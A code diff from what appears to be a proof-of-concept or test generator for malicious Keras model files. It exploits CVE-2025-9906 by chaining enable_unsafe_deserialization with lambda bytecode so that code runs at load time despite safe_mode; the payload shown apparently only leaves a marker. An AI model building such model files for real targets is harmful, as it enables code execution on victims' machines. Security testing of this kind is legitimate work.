@@ -112,7 +112,7 @@ def get_file_gadget(directory: Path, mark: Path) -> Path:
 def enable_unsafe_then_lambda(directory: Path, mark: Path) -> Path:
     """CVE-2025-9906: config.json first calls keras.config.enable_unsafe_deserialization (through
     keras.ops.cond(True, it, it)), so that a Python lambda's bytecode given as the input of the
-    next call (keras.ops.map(it, [0.0])) loads and runs despite safe_mode."""
+    next call (keras.ops.map(it, np.array([0.0]))) loads and runs despite safe_mode."""
     keras = _keras()
     path = _functional(keras, directory / "enable_unsafe.keras")
     switch = _function("keras.config", "enable_unsafe_deserialization")
@@ -120,7 +120,8 @@ def enable_unsafe_then_lambda(directory: Path, mark: Path) -> Path:
         "gadget", _function("keras.ops", "cond"), True, {"true_fn": switch, "false_fn": switch}
     )
     bytecode = {"class_name": "__lambda__", "config": {"value": _bytecode(ul.LEAVE_MARK)}}
-    then = _call_at_load("payload", _function("keras.ops", "map"), bytecode, {"xs": [0.0]})
+    one_row = {"class_name": "__numpy__", "config": {"value": [0.0], "dtype": "float32"}}
+    then = _call_at_load("payload", _function("keras.ops", "map"), bytecode, {"xs": one_row})
 
     def change(config):
         _insert_gadget(config, then)
